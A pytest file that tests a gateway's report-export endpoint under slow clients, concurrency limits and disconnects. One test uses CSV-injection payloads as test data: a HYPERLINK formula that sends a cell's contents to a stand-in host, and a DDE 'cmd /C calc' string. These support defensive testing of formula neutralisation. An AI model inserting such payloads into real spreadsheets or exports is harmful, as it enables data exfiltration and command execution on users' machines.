"""/api/v1/reports/export against slow clients on a real server: USSD callers are still served
while exports crawl, a client that leaves frees everything, extra exports get a 429, and CSV cells
that a spreadsheet would run are neutralised."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import httpx
import pytest
from sqlalchemy import select

from gateway.app import create_app
from gateway.audit.models import AuditEvent
from gateway.reports.export import ReportFilter, csv_header, csv_line, iter_report_rows, report_rows_query
from gateway.wiring import Gateway
from tests.api.conftest import LIVE_EXPORT_CONCURRENCY
from tests.api.live_server import LiveServer
from tests.api.raw_http import SlowReader
from tests.api.test_committees_api import token
from tests.api.waiting import eventually
from tests.helpers import MakeCommittee, MakeReport, UssdCaller
from tests.reports.bulk import insert_reports

EXPORT = "/api/v1/reports/export"
# About 6 MB of CSV: many times what the kernel and the server buffer for one slow client, so an
# export cannot finish into buffers while the test runs; it is still running when callers are served.
REPORTS = 4000


@pytest.fixture
async def committee_reports(gateway: Gateway, make_committee: MakeCommittee) -> dict[str, str]:
    """REPORTS reports in Zégoua, and the bearer header of the Zégoua committee, whose token the
    exports use."""
    await make_committee("Comité Zégoua", ["Zégoua"], [])
    await insert_reports(gateway, REPORTS, "Zégoua")
    return await token(gateway, "committee", "Comité Zégoua")


async def expected_csv(gateway: Gateway) -> str:
    async with gateway.sessionmaker() as db:
        rows = [row async for row in iter_report_rows(db, report_rows_query(ReportFilter()))]
    return csv_header() + "".join(csv_line(row) for row in rows)


async def test_slow_exports_leave_the_pool_to_ussd_callers(
    live_server: LiveServer, committee_reports: dict[str, str]
) -> None:
    readers = [
        SlowReader(live_server.port, f"{EXPORT}?format=csv", committee_reports)
        for _ in range(LIVE_EXPORT_CONCURRENCY)
    ]
    try:
        await eventually(lambda: all(r.body_started() for r in readers), "every export to start sending")
        assert [r.status for r in readers] == [200] * len(readers)
        async with httpx.AsyncClient(base_url=live_server.url, timeout=30) as http:
            for n in range(3):
                caller = UssdCaller(http, phone=f"+2237610{n:04d}")
                # Language menu, main menu, topic menu: three hops that each read and write. A hop
                # that gets no connection within the pool timeout gets the apology ("END "), so the
                # screen proves it was served in time; a stopwatch would also time the machine's load.
                for answer in (None, "1", "1"):
                    screen = await (caller.dial() if answer is None else caller.send(answer))
                    assert screen.startswith("CON "), screen
            # Refused, not queued: queued, it would wait for an export far from done, past the timeout.
            extra = await http.get(EXPORT, headers=committee_reports)
            assert extra.status_code == 429, extra.text
            assert int(extra.headers["retry-after"]) > 0
        # The exports are far from done: the callers were served while they ran, not after.
        assert not any(r.eof for r in readers)
    finally:
        for reader in readers:
            reader.close()


async def test_a_client_that_leaves_mid_export_leaves_nothing_held(
    live_server: LiveServer, gateway: Gateway, committee_reports: dict[str, str]
) -> None:
    leaving = [
        SlowReader(live_server.port, f"{EXPORT}?format=jsonl", committee_reports)
        for _ in range(LIVE_EXPORT_CONCURRENCY)
    ]
    await eventually(lambda: all(r.body_started() for r in leaving), "every export to start sending")
    for reader in leaving:
        reader.close()  # gone mid-answer, with data unread
    await eventually(lambda: live_server.connections_in_use() == 0, "the server's connections to come back")

    expected = await expected_csv(gateway)

    async def every_slot_serves_a_whole_export() -> bool:
        async with httpx.AsyncClient(base_url=live_server.url, timeout=60) as http:
            answers = await asyncio.gather(
                *(
                    http.get(EXPORT, headers=committee_reports, params={"format": "csv"})
                    for _ in range(LIVE_EXPORT_CONCURRENCY)
                )
            )
        if any(answer.status_code == 429 for answer in answers):
            return False  # a slot the clients who left held is not free yet
        # Read at full speed, each export is whole, newest first, byte for byte what it always was.
        assert [(a.status_code, a.text == expected) for a in answers] == [(200, True)] * len(answers)
        return True

    await eventually(every_slot_serves_a_whole_export, "every export slot to be free again", seconds=15)
    assert len({row["reference"] for row in csv.DictReader(io.StringIO(expected))}) == REPORTS
    await eventually(lambda: live_server.connections_in_use() == 0, "the server's connections to come back")


async def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_text(
    client: httpx.AsyncClient, gateway: Gateway, make_report: MakeReport
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir le rapport")'
    await make_report("Zégoua", text=hostile)
    await make_report("Banfora", text="@SUM(1+1)*cmd|' /C calc'!A0")
    await make_report("Zégoua", text="Marché fermé")
    organiser = await token(gateway, "organiser")
    exported = await client.get(EXPORT, headers=organiser, params={"format": "csv"})
    assert exported.status_code == 200
    descriptions = {row["description"] for row in csv.DictReader(io.StringIO(exported.text))}
    assert descriptions == {"'" + hostile, "'@SUM(1+1)*cmd|' /C calc'!A0", "Marché fermé"}
    lines = await client.get(EXPORT, headers=organiser, params={"format": "jsonl"})
    assert hostile in {json.loads(line)["description"] for line in lines.text.splitlines()}


async def test_an_export_refused_for_want_of_a_slot_is_not_audited(
    gateway: Gateway, make_report: MakeReport
) -> None:
    await make_report("Zégoua")
    organiser = await token(gateway, "organiser")
    app = create_app(gateway.settings, gateway)
    slots: asyncio.Semaphore = app.state.export_slots
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://gateway.test") as c:
        for _ in range(gateway.settings.export_concurrency):
            await slots.acquire()  # as many exports as allowed, still running
        refused = await c.get(EXPORT, headers=organiser)
        assert refused.status_code == 429
        assert "retry later" in refused.json()["error"]
        slots.release()
        accepted = await c.get(EXPORT, headers=organiser)
    assert accepted.status_code == 200
    assert len(list(csv.DictReader(io.StringIO(accepted.text)))) == 1
    assert not slots.locked()  # the finished export gave its slot back
    async with gateway.sessionmaker() as db:
        audited = (await db.execute(select(AuditEvent.action))).scalars().all()
    assert audited == ["reports.export"]
